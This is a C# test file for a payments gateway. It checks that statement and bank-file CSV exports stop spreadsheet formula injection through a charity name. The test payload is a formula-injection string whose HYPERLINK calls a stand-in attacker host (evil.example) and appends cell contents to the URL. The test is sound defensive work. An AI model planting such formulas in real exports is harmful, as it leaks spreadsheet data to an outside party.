using System.Net;
using CoProduce.Testing;

namespace CoProduce.Gateway.Tests.Payments;

/// <summary>
/// Issue 14, section 6: the statement and the bank file are written by the one CSV writer, so a charity's name
/// with a comma and a formula stays in its own cell and never runs as a formula in a spreadsheet.
/// </summary>
public abstract class StatementCsvTests(ITestDatabase database)
{
    private const string Charity = "a,=HYPERLINK(\"https://evil.example/?\"&A1,\"Claim\")";

    [Fact]
    public async Task ACharityNameWithACommaAndAFormulaNeitherShiftsColumnsNorStartsAFormula()
    {
        var exports = Path.Combine(Path.GetTempPath(), $"coproduce-statement-{Guid.NewGuid():N}");
        await using var app = new GatewayApplication(database, settings: new Dictionary<string, string?> { ["CoProduce:Payments:ExportDirectory"] = exports });
        var world = await PaymentsWorld.CreateAsync(app);
        var contributor = world.People.Contributor;
        await world.Choose(contributor, "Donate", charity: Charity);
        var claim = PaymentsWorld.Id(await world.Claim(contributor, PaymentsWorld.Meeting(2)));
        await world.Approve(claim);
        var run = await world.PayOut();
        Assert.Equal("Completed", run.GetProperty("status").GetString());

        var response = await app.CreateClient(contributor).GetAsync("/api/me/statement.csv").Expect(HttpStatusCode.OK);
        var statement = await response.Content.ReadAsStringAsync();
        var rows = CsvText.Records(statement);
        var row = Assert.Single(rows);
        Assert.Equal(claim, Guid.Parse(row["claim_id"]));
        Assert.Equal($"charity: {Charity}", row["fee_paid_to"]);
        Assert.Equal("50.00", row["fee"]);
        Assert.Equal("Paid", row["status"]);
        AssertNoFormula(CsvText.Parse(statement));

        var bankFile = File.ReadAllText(Path.Combine(exports, run.GetProperty("export").GetString()!));
        var line = Assert.Single(CsvText.Records(bankFile));
        Assert.Equal(Charity, line["payee_reference"]);
        Assert.Equal("charity", line["payee_type"]);
        AssertNoFormula(CsvText.Parse(bankFile));
        Directory.Delete(exports, recursive: true);
    }

    private static void AssertNoFormula(IReadOnlyList<string[]> rows) =>
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"A cell starts a formula: {cell}"));
}

public sealed class SqliteStatementCsvTests(SqliteDatabase database) : StatementCsvTests(database), IClassFixture<SqliteDatabase>;

public sealed class PostgresStatementCsvTests(PostgresDatabase database) : StatementCsvTests(database), IClassFixture<PostgresDatabase>;
